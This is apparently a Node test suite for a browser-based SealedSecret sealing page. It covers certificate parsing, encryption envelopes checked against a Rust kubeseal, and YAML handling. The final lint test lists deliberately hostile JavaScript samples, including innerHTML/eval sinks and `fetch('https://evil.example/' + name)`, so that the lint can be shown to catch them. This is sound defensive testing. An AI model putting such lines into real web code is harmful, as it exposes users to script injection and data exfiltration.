// The sealing page's ES module under `node --test` (Node's WebCrypto is the browsers' API):
// certificate parsing, byte-exact envelopes against the shared vectors, values the Rust side
// (`kubeseal --recovery-unseal`, i.e. common::sealing::unseal) opens in all three scopes, editing
// a SealedSecret without touching the other items, the YAML reader and writer, and the lint that
// keeps user data out of HTML.
//
//   node --test tests/ui/unit.test.mjs      (kubeseal from $CARGO_TARGET_DIR/debug, or SSRS_KUBESEAL)

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { X509Certificate, webcrypto } from 'node:crypto';
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

import * as ui from '../../controller/ui/seal.js';

const HERE = dirname(fileURLToPath(import.meta.url));
const ROOT = resolve(HERE, '../..');
const FIXTURES = resolve(ROOT, '../shared/fixtures/interop');
const fixture = (name) => readFileSync(join(FIXTURES, name), 'utf8');
const CERT = fixture('cert-4096.pem');
const KEY_PEM = join(FIXTURES, 'key-4096.pem');
const VECTORS = JSON.parse(fixture('vectors-4096.json'));
const subtle = webcrypto.subtle;
const b64 = (s) => new Uint8Array(Buffer.from(s, 'base64'));
const hex = (s) => new Uint8Array(Buffer.from(s, 'hex'));
const utf8 = (s) => new TextEncoder().encode(s);

function kubeseal() {
  const candidates = [
    process.env.SSRS_KUBESEAL,
    process.env.CARGO_TARGET_DIR && join(process.env.CARGO_TARGET_DIR, 'debug/kubeseal'),
    join(ROOT, 'target/debug/kubeseal'),
  ].filter(Boolean);
  const found = candidates.find((p) => existsSync(p));
  assert.ok(found, `kubeseal not found in ${candidates.join(', ')}: run cargo build --workspace --bins first`);
  return found;
}

/** Open a SealedSecret with the Rust side: kubeseal --recovery-unseal (common::sealing::unseal). */
function rustUnseal(sealedYaml) {
  const r = spawnSync(kubeseal(), ['--recovery-unseal', '--recovery-private-key', KEY_PEM, '-o', 'json'], {
    input: sealedYaml,
    env: { PATH: process.env.PATH, HOME: tmpdir() },
  });
  return { ok: r.status === 0, stderr: r.stderr.toString(), secret: r.status === 0 ? JSON.parse(r.stdout) : null };
}

/** The fixture's RSA private key for WebCrypto (PKCS#1 PEM → PKCS#8 through Node's KeyObject). */
async function privateKey() {
  const { createPrivateKey } = await import('node:crypto');
  const der = createPrivateKey(readFileSync(KEY_PEM)).export({ type: 'pkcs8', format: 'der' });
  return subtle.importKey('pkcs8', der, { name: 'RSA-OAEP', hash: 'SHA-256' }, false, ['decrypt']);
}

/** A random source that hands out `stream` (hex) and then fails. */
function pinned(stream) {
  let bytes = hex(stream);
  return (n) => {
    assert.ok(bytes.length >= n, 'pinned random stream exhausted');
    const out = bytes.slice(0, n);
    bytes = bytes.slice(n);
    return out;
  };
}

test('the certificate walk finds what Node\'s X.509 parser finds', () => {
  const c = ui.parseCertificate(ui.pemToDer(CERT));
  const x = new X509Certificate(CERT);
  assert.deepEqual(Buffer.from(c.spki), x.publicKey.export({ type: 'spki', format: 'der' }));
  assert.equal(c.notAfter.getTime(), new Date(x.validTo).getTime());
  assert.equal(c.notBefore.getTime(), new Date(x.validFrom).getTime());
  assert.equal(c.modulusBits, 4096);
  // The first CERTIFICATE block wins, as in kubeseal; other PEM blocks around it are ignored.
  const two = `-----BEGIN RSA PRIVATE KEY-----\nAAAA\n-----END RSA PRIVATE KEY-----\n${CERT}${CERT}`;
  assert.deepEqual(ui.parseCertificate(ui.pemToDer(two)).spki, c.spki);
});

test('certificate errors are clear and never quote the input', () => {
  assert.throws(() => ui.pemToDer('hello'), /no PEM CERTIFICATE block/);
  const der = ui.pemToDer(CERT);
  for (const cut of [1, 10, 300, der.length - 1]) {
    assert.throws(() => ui.parseCertificate(der.slice(0, cut)), ui.InputError);
  }
  // An EC key (P-256 SPKI OID) is refused like kubeseal's "expected RSA public key".
  const spkiStart = ui.parseCertificate(der).spki;
  const bad = new Uint8Array(der);
  const at = Buffer.from(der).indexOf(Buffer.from('2a864886f70d010101', 'hex'));
  assert.ok(at > 0 && spkiStart.length > 0);
  bad[at + 8] = 0x02;
  assert.throws(() => ui.parseCertificate(bad), /expected RSA public key/);
});

test('an expired certificate is refused with kubeseal\'s message', async () => {
  const notAfter = ui.parseCertificate(ui.pemToDer(CERT)).notAfter;
  await assert.rejects(
    ui.makeSealer(CERT, { subtle, now: new Date(notAfter.getTime() + 1000) }),
    { message: 'failed to encrypt using an expired certificate on November 26, 2036' },
  );
  // At the very end of validity it still seals (kubeseal: now > NotAfter).
  await ui.makeSealer(CERT, { subtle, now: notAfter });
});

test('validity times: UTCTime century rule and GeneralizedTime', () => {
  assert.equal(ui.parseDerTime(0x17, '491231235959Z').toISOString(), '2049-12-31T23:59:59.000Z');
  assert.equal(ui.parseDerTime(0x17, '500101000000Z').toISOString(), '1950-01-01T00:00:00.000Z');
  assert.equal(ui.parseDerTime(0x18, '20991231235959Z').toISOString(), '2099-12-31T23:59:59.000Z');
  assert.throws(() => ui.parseDerTime(0x17, '260231000000Z'), ui.InputError);
  assert.throws(() => ui.parseDerTime(0x18, '2026010100000Z'), ui.InputError);
  assert.equal(ui.formatDate(new Date(Date.UTC(2024, 1, 29))), 'February 29, 2024');
});

test('labels per scope are upstream\'s', () => {
  for (const v of VECTORS.vectors) {
    assert.deepEqual(Buffer.from(ui.encryptionLabel(v.scope, v.namespace, v.name)).toString('hex'), v.label_hex, v.id);
  }
  assert.equal(ui.scopeOf({ [ui.CLUSTER_WIDE]: 'true', [ui.NAMESPACE_WIDE]: 'true' }), 'cluster-wide');
  assert.equal(ui.scopeOf({ [ui.NAMESPACE_WIDE]: 'True' }), 'strict');
  assert.deepEqual(ui.withScope({ a: 'b', [ui.CLUSTER_WIDE]: 'true' }, 'namespace-wide'), {
    a: 'b',
    [ui.NAMESPACE_WIDE]: 'true',
  });
});

test('byte-exact envelopes for the pinned session key of every shared vector', async () => {
  const key = await privateKey();
  assert.equal(VECTORS.vectors.length, 15);
  for (const v of VECTORS.vectors) {
    const sealer = await ui.makeSealer(CERT, { subtle, random: pinned(v.rng_stream_hex) });
    const label = ui.encryptionLabel(v.scope, v.namespace, v.name);
    const plaintext = b64(v.plaintext_b64);
    const ours = await sealer.encrypt(plaintext, label);
    const theirs = b64(v.ciphertext_b64);
    assert.equal(ours.length, theirs.length, v.id);
    // Length prefix and the AES-256-GCM part (zero nonce, no AAD, tag) are byte-exact. The
    // 32-byte OAEP seed is drawn inside WebCrypto, which takes no random source, so the RSA part
    // is checked by opening it: it must hold exactly the pinned session key under this label.
    assert.deepEqual(Buffer.from(ours.subarray(0, 2)), Buffer.from(theirs.subarray(0, 2)), `${v.id}: prefix`);
    assert.deepEqual(Buffer.from(ours.subarray(514)), Buffer.from(theirs.subarray(514)), `${v.id}: AES-GCM part`);
    const rsa = ours.subarray(2, 514);
    const session = new Uint8Array(await subtle.decrypt({ name: 'RSA-OAEP', label }, key, rsa));
    assert.equal(Buffer.from(session).toString('hex'), v.session_key_hex, `${v.id}: session key`);
    const theirSession = new Uint8Array(await subtle.decrypt({ name: 'RSA-OAEP', label }, key, theirs.subarray(2, 514)));
    assert.deepEqual(theirSession, session, v.id);
    // The label is bound: under another scope's label the RSA part does not open.
    const other = v.scope === 'cluster-wide' ? utf8('x') : new Uint8Array(0);
    await assert.rejects(subtle.decrypt({ name: 'RSA-OAEP', label: other }, key, rsa), v.id);
  }
});

test('every value gets a fresh session key from the random source', async () => {
  let calls = 0;
  const sealer = await ui.makeSealer(CERT, {
    subtle,
    random: (n) => {
      calls++;
      return webcrypto.getRandomValues(new Uint8Array(n));
    },
  });
  const a = await sealer.encrypt(utf8('same'), utf8('ns/n'));
  const b = await sealer.encrypt(utf8('same'), utf8('ns/n'));
  assert.equal(calls, 2);
  assert.notDeepEqual(Buffer.from(a.subarray(514)), Buffer.from(b.subarray(514)));
  await assert.rejects(
    (await ui.makeSealer(CERT, { subtle, random: () => new Uint8Array(16) })).encrypt(utf8('x'), utf8('')),
    /32 bytes/,
  );
});

const SECRET = ui.parseDocument(fixture('secret.yaml'));

test('Secrets sealed here open with the Rust side in all three scopes, and only where they belong', async () => {
  const sealer = await ui.makeSealer(CERT, { subtle });
  const expected = Object.fromEntries([...ui.secretItems(SECRET)].map(([k, v]) => [k, Buffer.from(v).toString('base64')]));
  assert.ok(expected.binary && expected.password, 'fixture items');
  const moves = {
    strict: { renamed: false, moved: false },
    'namespace-wide': { renamed: true, moved: false },
    'cluster-wide': { renamed: true, moved: true },
  };
  for (const scope of ui.SCOPES) {
    const sealed = await ui.sealSecretObject(sealer, SECRET, scope);
    assert.equal(ui.scopeOf(sealed.metadata.annotations), scope);
    assert.equal(ui.scopeOf(sealed.spec.template.metadata.annotations), scope);
    const yaml = ui.toYaml(sealed);
    const opened = rustUnseal(yaml);
    assert.ok(opened.ok, `${scope}: ${opened.stderr}`);
    assert.deepEqual(opened.secret.data, expected, scope);
    assert.deepEqual(opened.secret.metadata.labels, SECRET.metadata.labels, scope);
    assert.equal(opened.secret.type, 'Opaque');
    for (const [what, edit] of [
      ['renamed', (o) => (o.metadata.name = 'other')],
      ['moved', (o) => (o.metadata.namespace = 'elsewhere')],
    ]) {
      const o = structuredClone(sealed);
      edit(o);
      assert.equal(rustUnseal(ui.toYaml(o)).ok, moves[scope][what], `${scope} ${what}`);
    }
  }
});

test('editing a SealedSecret replaces, deletes and adds items; the others keep their exact bytes', async () => {
  const sealer = await ui.makeSealer(CERT, { subtle });
  for (const scope of ui.SCOPES) {
    const original = await ui.sealSecret(sealer, {
      metadata: { name: 'app', namespace: 'team-a', labels: { tier: 'web' } },
      type: 'Opaque',
      items: new Map([['a', utf8('A')], ['b', utf8('B')], ['c', utf8('C')]]),
      scope,
    });
    // As it comes back from `kubectl get -o yaml`: server fields, status, last-applied.
    const fromCluster = ui.parseDocument(ui.toYaml({
      ...original,
      metadata: {
        ...original.metadata,
        uid: '0a1b', resourceVersion: '42', generation: 3, creationTimestamp: '2026-12-01T00:00:00Z',
        annotations: { ...(original.metadata.annotations ?? {}), 'kubectl.kubernetes.io/last-applied-configuration': '{"spec":{}}' },
      },
      status: { observedGeneration: 3 },
    }));
    const d = ui.describeSealedSecret(fromCluster);
    assert.deepEqual(d, { name: 'app', namespace: 'team-a', scope, items: ['a', 'b', 'c'] });
    const edited = await ui.editSealedSecret(sealer, fromCluster, {
      replace: new Map([['b', utf8('B2')], ['d', utf8('D')]]),
      remove: ['c'],
    });
    assert.deepEqual(Object.keys(edited.spec.encryptedData), ['a', 'b', 'd']);
    assert.equal(edited.spec.encryptedData.a, original.spec.encryptedData.a, 'untouched item byte-identical');
    assert.notEqual(edited.spec.encryptedData.b, original.spec.encryptedData.b);
    assert.equal(edited.status, undefined);
    assert.equal(edited.metadata.uid, undefined);
    assert.equal(edited.metadata.resourceVersion, undefined);
    assert.deepEqual(edited.metadata.annotations, original.metadata.annotations);
    assert.deepEqual(edited.spec.template, original.spec.template);
    const opened = rustUnseal(ui.toYaml(edited));
    assert.ok(opened.ok, opened.stderr);
    assert.deepEqual(opened.secret.data, { a: 'QQ==', b: 'QjI=', d: 'RA==' }, scope);
  }
  // Unsorted input keeps its order; new items go last.
  const o = ui.parseDocument(`apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nmetadata: {name: n, namespace: s}\nspec:\n  encryptedData:\n    z: AgA1\n    a: AgA2\n  template:\n    metadata: {name: n, namespace: s}\n`);
  const e = await ui.editSealedSecret(sealer, o, { replace: new Map([['m', utf8('x')]]) });
  assert.deepEqual(Object.keys(e.spec.encryptedData), ['z', 'a', 'm']);
  assert.equal(e.spec.encryptedData.z, 'AgA1');
  assert.throws(() => ui.describeSealedSecret({ ...o, spec: { data: 'AgA=' } }), /deprecated v1/);
  assert.throws(() => ui.describeSealedSecret({ kind: 'Secret' }), /not a bitnami.com\/v1alpha1 SealedSecret/);
});

test('input checks name the field and never quote the value', async () => {
  const sealer = await ui.makeSealer(CERT, { subtle });
  const secret = (over) => ({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'n', namespace: 's' }, ...over });
  await assert.rejects(ui.sealSecretObject(sealer, secret({ data: { k: 'not base64 hunter2!' } })), (e) => {
    assert.equal(e.message, 'data[k]: not valid base64');
    return true;
  });
  await assert.rejects(ui.sealSecretObject(sealer, secret({ metadata: { name: 'n' }, data: { k: 'AA==' } })), /must declare a namespace/);
  await assert.rejects(ui.sealSecretObject(sealer, secret({ metadata: { namespace: 's' }, data: { k: 'AA==' } })), /missing metadata.name/);
  await assert.rejects(ui.sealSecretObject(sealer, secret({})), /no items/);
  await assert.rejects(ui.sealSecretObject(sealer, secret({ stringData: { 'bad/name': 'x' } })), /item names/);
  await assert.rejects(ui.sealSecretObject(sealer, { kind: 'ConfigMap' }), /not a Secret/);
  // Cluster-wide needs no namespace (kubeseal keeps an empty one).
  const cw = await ui.sealSecretObject(sealer, secret({ metadata: { name: 'n' }, stringData: { k: 'v' } }), 'cluster-wide');
  assert.equal(cw.metadata.namespace, undefined);
  assert.ok(rustUnseal(ui.toYaml(cw)).ok);
  // Parse errors name the line and the problem, never the text (it may be a plaintext Secret).
  for (const bad of ['a: [SECRETVALUE, 2', 'a:\n\tb: SECRETVALUE', 'a: &x SECRETVALUE', 'a: *SECRETVALUE',
    'a: !!binary SECRETVALUE', 'a: "SECRETVALUE', 'a: SECRETVALUE\na: c', '{"a": "SECRETVALUE"', 'SECRETVALUE: x\n y: z']) {
    assert.throws(() => ui.parseDocument(bad), (e) => {
      assert.ok(e instanceof ui.InputError, `${JSON.stringify(bad)}: ${e}`);
      assert.ok(!e.message.includes('SECRETVALUE'), e.message);
      return true;
    });
  }
  assert.throws(() => ui.parseDocument('a: 1\n---\nb: 2\n'), /one object at a time/);
});

test('the YAML reader reads kubeseal\'s YAML as kubeseal\'s JSON says', () => {
  const dir = mkdtempSync(join(tmpdir(), 'ssrs-ui-'));
  try {
    const input = join(dir, 'secret.yaml');
    writeFileSync(input, fixture('secret.yaml'));
    for (const scope of ui.SCOPES) {
      const run = (fmt) =>
        execFileSync(kubeseal(), ['--cert', join(FIXTURES, 'cert-4096.pem'), '--scope', scope, '-o', fmt, '-f', input], {
          env: { PATH: process.env.PATH, HOME: dir },
        }).toString();
      const y = ui.parseDocument(run('yaml'));
      // Sealing is randomised: compare structure, and the ciphertexts' shape.
      const j = JSON.parse(run('json'));
      assert.deepEqual(Object.keys(y.spec.encryptedData), Object.keys(j.spec.encryptedData));
      for (const v of Object.values(y.spec.encryptedData)) assert.match(v, /^Ag[A-D][A-Za-z0-9+/]+=*$/);
      const strip = (o) => ({ ...o, spec: { ...o.spec, encryptedData: Object.keys(o.spec.encryptedData) } });
      assert.deepEqual(strip(y), strip(j), scope);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  for (const scope of ['strict', 'namespace-wide', 'cluster-wide']) {
    const o = ui.parseDocument(fixture(`sealed-by-kubesealpy-${scope}.yaml`));
    assert.equal(ui.describeSealedSecret(o).scope, scope);
    assert.deepEqual(Object.keys(o.spec.encryptedData).sort(), ['binary', 'password', 'username']);
  }
});

test('YAML reader: the shapes kubectl writes', () => {
  const doc = ui.parseDocument(`# a comment
---
apiVersion: v1   # trailing comment
kind: Secret
metadata:
  name: "quoted \\u00e9 \\"x\\""
  namespace: 'it''s'
  labels: {a: b, "c": 'd'}
  annotations:
    long: this is a plain scalar
      continued on the next line
    empty: ""
    hash: a#b
    literal: |
      line 1
        indented
      line 3
    folded: >-
      one
      two

      three
  finalizers:
  - a
  - b
data: {}
list:
  - name: x
    value: "1"
  - - nested
  -
    k: v
num: 0123
bool: true
nothing: ~
url: http://example.com:8080/x
`);
  assert.deepEqual(doc, {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: {
      name: 'quoted é "x"',
      namespace: "it's",
      labels: { a: 'b', c: 'd' },
      annotations: {
        long: 'this is a plain scalar continued on the next line',
        empty: '',
        hash: 'a#b',
        literal: 'line 1\n  indented\nline 3\n',
        folded: 'one two\nthree',
      },
      finalizers: ['a', 'b'],
    },
    data: {},
    list: [{ name: 'x', value: '1' }, ['nested'], { k: 'v' }],
    num: '0123',
    bool: true,
    nothing: null,
    url: 'http://example.com:8080/x',
  });
  // __proto__ is a key like any other, not a prototype.
  const p = ui.parseDocument('__proto__: {polluted: yes}\n');
  assert.equal({}.polluted, undefined);
  assert.deepEqual(Object.keys(p), ['__proto__']);
});

test('the YAML writer round-trips tricky strings through the reader', () => {
  const tricky = ['', ' lead', 'trail ', 'true', 'no', 'null', '~', '123', '0x1f', '-1', '.5', 'a: b', 'a #b', '#x',
    '- x', 'multi\nline', 'tab\there', 'é ü 😀', '"quoted"', "'single'", '{flow}', '[x]', '*alias', '&anchor',
    '!tag', '%dir', '@at', '`tick`', '|', '>', 'key:', 'AgA+/=', 'a/b.c_d-e'];
  const obj = { m: Object.fromEntries(tricky.map((s, i) => [`k${i}`, s])), keys: Object.fromEntries(tricky.filter(Boolean).map((s) => [s, s])), list: tricky, empty: {}, none: [] };
  assert.deepEqual(ui.parseDocument(ui.toYaml(obj)), obj);
  assert.ok(ui.toYaml({ a: 'AgA+/=' }).includes('a: AgA+/='), 'base64 stays plain');
});

test('docker-config helper writes what kubectl create secret docker-registry writes', () => {
  const v = JSON.parse(Buffer.from(ui.dockerConfigJson({ server: 'r.example.com', username: 'u', password: 'p', email: '' })));
  assert.deepEqual(v, { auths: { 'r.example.com': { username: 'u', password: 'p', auth: 'dTpw' } } });
  assert.throws(() => ui.dockerConfigJson({ server: '' }), /server is required/);
});

test('importing the module in Node does not touch a DOM', () => {
  assert.equal(typeof globalThis.document, 'undefined');
  assert.equal(typeof ui.makeSealer, 'function');
});

test('the page: no inline script or style, no event-handler attributes, only relative URLs', () => {
  const html = readFileSync(join(ROOT, 'controller/ui/index.html'), 'utf8');
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
  assert.equal(scripts.length, 1);
  assert.match(scripts[0][1], /type="module" src="seal.js"/);
  assert.equal(scripts[0][2].trim(), '');
  assert.doesNotMatch(html, /<style|\sstyle=|\son[a-z]+=/i);
  for (const [, url] of html.matchAll(/\s(?:src|href|action)="([^"]*)"/g)) {
    if (url !== 'data:,') assert.doesNotMatch(url, /^(\/|[a-z]+:)/i, url);
  }
  const js = readFileSync(join(ROOT, 'controller/ui/seal.js'), 'utf8');
  const fetched = [...js.matchAll(/fetch\(\s*'([^']*)'/g)].map((m) => m[1]);
  assert.deepEqual(fetched.sort(), ['../v1/cert.pem', '../v1/verify']);
  assert.doesNotMatch(js, /\bimport\s*\(|^import\s/m, 'no further modules');
});

test('lint: no HTML sinks, no eval, only the two relative endpoints (and the lint can fail)', async () => {
  const { lint } = await import('./lint.mjs');
  const results = await lint([join(ROOT, 'controller/ui/seal.js')]);
  const problems = results.flatMap((r) => r.messages.map((m) => `${r.filePath}:${m.line} ${m.ruleId}: ${m.message}`));
  assert.deepEqual(problems, []);
  const bad = await lint(null, [
    'el.innerHTML = name;',
    'el.outerHTML = name;',
    "el.insertAdjacentHTML('beforeend', name);",
    'document.write(name);',
    'eval(name);',
    "fetch('https://evil.example/' + name);",
    "fetch('/v1/verify');",
    'fetch(url);',
    'new XMLHttpRequest();',
    "navigator.sendBeacon('x', name);",
    "new Function('return 1');",
    'el.srcdoc = name;',
  ].join('\n'));
  const lines = bad.flatMap((r) => r.messages.map((m) => m.line));
  assert.deepEqual([...new Set(lines)].sort((a, b) => a - b), [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]);
});
